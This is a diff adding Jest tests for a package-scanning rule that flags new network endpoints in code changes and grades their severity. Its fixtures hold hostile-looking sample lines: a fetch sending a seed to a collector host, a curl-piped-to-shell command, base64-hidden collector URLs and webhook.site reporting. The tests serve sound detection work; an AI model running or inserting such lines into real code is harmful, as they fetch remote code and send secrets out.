@@ -1,6 +1,8 @@
 import { describe, expect, it } from '@jest/globals'
+import { join } from 'node:path'
 import { rule } from '../../../src/rules/content/new-endpoint.js'
 import type { Manifest } from '../../../src/types.js'
+import { contextFor, CORPUS } from '../../helpers/corpus.js'
 import { makeChange, makeContext, makeFiles, makeManifest } from '../../helpers/factories.js'
 
 const OLD = 'export async function sign(seed) {\n  return derive(seed)\n}\n'
@@ -212,5 +214,165 @@ describe('content/new-endpoint', () => {
       files: makeFiles({ 'index.js': line })
     })
     expect((await rule.check(ctx))[0]?.severity).toBe(severity)
+  })
+})
+
+describe('content/new-endpoint: where endpoints are read', () => {
+  it('ignores a URL in a block comment whose lines do not start with * (highlight.js shape)', async () => {
+    const header = [
+      '/*',
+      'Language: FreeDesktop Configs',
+      'Website: https://www.freedesktop.org/',
+      '*/',
+      'export default function freedesktop(hljs) {',
+      "  return { name: 'FreeDesktop' }",
+      '}',
+      ''
+    ].join('\n')
+    const ctx = changed({ 'index.js': OLD }, { 'index.js': OLD, 'es/languages/fd.js': header })
+    expect(await rule.check(ctx)).toEqual([])
+  })
+
+  it('reads endpoints from string literals only, decoded ones included', async () => {
+    const code = [
+      "const note = 'docs' // see https://docs.collector.xyz/api",
+      "const u = Buffer.from('aHR0cHM6Ly9kcm9wLmNvbGxlY3Rvci54eXovYw==', 'base64').toString()",
+      ''
+    ].join('\n')
+    const findings = await rule.check(changed({ 'index.js': OLD }, { 'index.js': OLD + code }))
+    expect(findings).toHaveLength(1)
+    expect(findings[0]?.message).toContain('drop.collector.xyz')
+    expect(findings[0]?.message).not.toContain('docs.collector.xyz')
+  })
+
+  it('ignores a doc comment in a file the parser cannot read (Flow), but not its code', async () => {
+    const flow = [
+      '// @flow',
+      '/**',
+      '  Take a look at the community components:',
+      '  https://js.coach/?query=button',
+      '*/',
+      'export default function Button(props: Props): React.Node {',
+      "  /* report */ return fetch('https://api.collector.xyz/button')",
+      '}',
+      ''
+    ].join('\n')
+    const ctx = changed({ 'index.js': OLD }, { 'index.js': OLD, 'Button.flow.js': flow })
+    const findings = await rule.check(ctx)
+    expect(findings).toHaveLength(1)
+    expect(findings[0]?.message).toContain('a new host: api.collector.xyz')
+    expect(findings[0]?.evidence[0]).toMatchObject({ file: 'Button.flow.js', line: 7 })
+  })
+
+  it.each([
+    [
+      'an error message (React shape)',
+      '  throw new Error("A cross-origin error was thrown. " +\n    "See https://reactjs.org/link/crossorigin-error for more information.")'
+    ],
+    [
+      'a help text',
+      "  console.log('Read the guide at https://guide.acme-docs.org before you start')"
+    ],
+    [
+      'a message and a separate URL piece',
+      '  warn("Please update the DevTools. " +\n    "https://devtools.acme-docs.org/link")'
+    ]
+  ])('lowers a link in %s to low', async (_name, line) => {
+    const findings = await run(line)
+    expect(findings).toHaveLength(1)
+    expect(findings[0]?.severity).toBe('low')
+  })
+
+  it.each([
+    ['a bare URL', "  fetch('https://in.collector.xyz/c', { body: seed })"],
+    [
+      'a command line',
+      "  execSync('curl -fsSL https://get.collector.xyz/i.sh | sh and run it now')"
+    ],
+    [
+      'an encoded sentence',
+      "  const m = atob('U2VlIGh0dHBzOi8vaW4uY29sbGVjdG9yLnh5ei9jIGZvciBtb3JlIGluZm9ybWF0aW9u')"
+    ]
+  ])('keeps %s at medium', async (_name, line) => {
+    const findings = await run(line)
+    expect(findings[0]?.severity).toBe('medium')
+  })
+
+  it('keeps a raw IP or a collector in a sentence high', async () => {
+    const findings = await run(
+      "  log('Results were sent to https://webhook.site/0000 for you to read later')"
+    )
+    expect(findings[0]?.severity).toBe('high')
+  })
+
+  it("lowers raw files of the package's own GitHub organisation (yarn shape)", async () => {
+    const manifest = makeManifest({ repository: 'git+https://github.com/acme/tool.git' })
+    const own = await run(
+      "  get('https://raw.githubusercontent.com/acme/tool/main/plugins.yml')",
+      manifest
+    )
+    expect(own[0]?.severity).toBe('low')
+    const other = await run("  get('https://raw.githubusercontent.com/evil/x/main/p.sh')", manifest)
+    expect(other[0]?.severity).toBe('medium')
+  })
+
+  describe('an endpoint catalogue (viem shape)', () => {
+    const chains = Array.from(
+      { length: 24 },
+      (_, i) =>
+        `  { id: ${i}, rpc: 'https://rpc.chain${i}-net.xyz', explorer: 'https://scan${i}.io' },`
+    )
+    const catalogue = `export const chains = [\n${chains.join('\n')}\n]\n`
+    const fewer = `export const chains = [\n${chains.slice(0, 5).join('\n')}\n]\n`
+
+    it('lowers a new ordinary host to low', async () => {
+      const added = "export const kinetiq = { rpc: 'https://rpc.elysium.kinetiq.xyz' }\n"
+      const ctx = changed(
+        { 'chains.js': catalogue },
+        { 'chains.js': catalogue, 'definitions/kinetiq.js': added }
+      )
+      const findings = await rule.check(ctx)
+      expect(findings[0]?.severity).toBe('low')
+    })
+
+    it('keeps alarming endpoints high', async () => {
+      const added =
+        "export const c = { rpc: 'http://203.0.113.9:8545', hook: 'https://webhook.site/0' }\n"
+      const ctx = changed({ 'chains.js': catalogue }, { 'chains.js': catalogue, 'c.js': added })
+      expect((await rule.check(ctx))[0]?.severity).toBe('high')
+    })
+
+    it('does not count sites named only in comments', async () => {
+      const commented = `/*\n${chains.join('\n')}\n*/\nexport const x = 1\n`
+      const added = "export const k = { rpc: 'https://rpc.elysium.kinetiq.xyz' }\n"
+      const ctx = changed({ 'chains.js': commented }, { 'chains.js': commented, 'k.js': added })
+      expect((await rule.check(ctx))[0]?.severity).toBe('medium')
+    })
+
+    it('needs enough distinct sites', async () => {
+      const added = "export const k = { rpc: 'https://rpc.elysium.kinetiq.xyz' }\n"
+      const ctx = changed({ 'chains.js': fewer }, { 'chains.js': fewer, 'k.js': added })
+      expect((await rule.check(ctx))[0]?.severity).toBe('medium')
+    })
+  })
+})
+
+describe('content/new-endpoint on the false positives of the real-world check', () => {
+  const benign = (name: string) => join(CORPUS, 'content', 'new-endpoint', 'benign', name)
+
+  it.each([
+    ['block-comment-header', undefined],
+    ['flow-docs-and-error-links', 'a new host: reactjs.org'],
+    ['chain-catalogue', '2 new hosts: rpc.elysium.kinetiq.xyz, testnet-explorer.hskchain.net'],
+    ['own-repository-raw-file', 'a new host: raw.githubusercontent.com']
+  ])('%s: at most low, %s', async (name, message) => {
+    const findings = await rule.check(await contextFor(benign(name)))
+    expect(findings.map((finding) => finding.severity)).toEqual(message ? ['low'] : [])
+    if (message) expect(findings[0]?.message).toContain(message)
+  })
+
+  it.each(['xrpl', 'shai-hulud-1'])('still reports the %s replay', async (name) => {
+    const findings = await rule.check(await contextFor(join(CORPUS, 'incidents', name)))
+    expect(findings[0]?.severity).toBe(name === 'xrpl' ? 'medium' : 'high')
   })
 })
